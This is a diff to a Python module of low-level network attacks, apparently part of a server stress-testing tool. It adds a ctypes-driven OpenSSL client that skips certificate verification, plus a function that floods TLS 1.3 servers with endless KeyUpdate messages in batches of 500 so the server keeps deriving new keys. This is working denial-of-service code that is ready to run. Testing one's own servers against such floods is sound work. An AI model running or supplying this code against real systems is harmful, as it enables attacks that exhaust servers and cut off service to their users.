@@ -1,4 +1,6 @@
 """Attacks below HTTP: on connections and on TLS handshakes."""
+import ctypes
+import ctypes.util
 import socket
 import ssl
 
@@ -92,6 +94,67 @@ def handshakes_with_long_chains(site):
             site.seen[error.reason] += 1
         except OSError as error:
             site.seen["refused: " + type(error).__name__] += 1
+
+
+class _OpenSsl:
+    """What Python's ssl has not: a client of TLS 1.3 that changes its keys. It verifies nothing."""
+    _POINTERS = ("TLS_client_method", "SSL_CTX_new", "SSL_new", "BIO_s_mem", "BIO_new")
+
+    def __init__(self, address):
+        self.calls = ctypes.CDLL(ctypes.util.find_library("ssl"))
+        for name in self._POINTERS:
+            getattr(self.calls, name).restype = ctypes.c_void_p
+        pointer = ctypes.c_void_p
+        self.context = pointer(self.calls.SSL_CTX_new(pointer(self.calls.TLS_client_method())))
+        self.calls.SSL_CTX_set_alpn_protos(self.context, b"\x02h2", 3)
+        self.connection = pointer(self.calls.SSL_new(self.context))
+        self.inward, self.outward = (pointer(self.calls.BIO_new(pointer(self.calls.BIO_s_mem()))) for _ in range(2))
+        self.calls.SSL_set_bio(self.connection, self.inward, self.outward)
+        self.calls.SSL_set_connect_state(self.connection)
+        self.buffer = ctypes.create_string_buffer(1 << 16)
+        self.socket = socket.create_connection(address, timeout=2)
+        while self.calls.SSL_do_handshake(self.connection) != 1:
+            self.send()
+            octets = self.socket.recv(1 << 14)
+            if not octets:
+                raise ConnectionResetError
+            self.calls.BIO_write(self.inward, octets, len(octets))
+        self.send()
+
+    def send(self):
+        while True:
+            size = self.calls.BIO_read(self.outward, self.buffer, len(self.buffer))
+            if size <= 0:
+                return
+            self.socket.sendall(self.buffer.raw[:size])
+
+    def change_keys(self):
+        self.calls.SSL_key_update(self.connection, 0)  # SSL_KEY_UPDATE_NOT_REQUESTED
+        self.calls.SSL_do_handshake(self.connection)
+
+    def close(self):
+        ground.vanish(self.socket)
+        self.calls.SSL_free(self.connection)
+        self.calls.SSL_CTX_free(self.context)
+
+
+def floods_after_handshakes(site):
+    """New keys without end (KeyUpdate of TLS 1.3): the server derives them, and who sends them need not wait for anything."""
+    while not site.is_over():
+        try:
+            peer = _OpenSsl(site.tls)
+        except OSError as error:
+            site.seen["refused: " + type(error).__name__] += 1
+            continue
+        try:
+            while not site.is_over():
+                for _ in range(500):
+                    peer.change_keys()
+                site.seen["new keys"] += 500
+                peer.send()
+        except OSError:
+            site.seen["ended"] += 1
+        peer.close()
 
 
 def connection_flood(site):
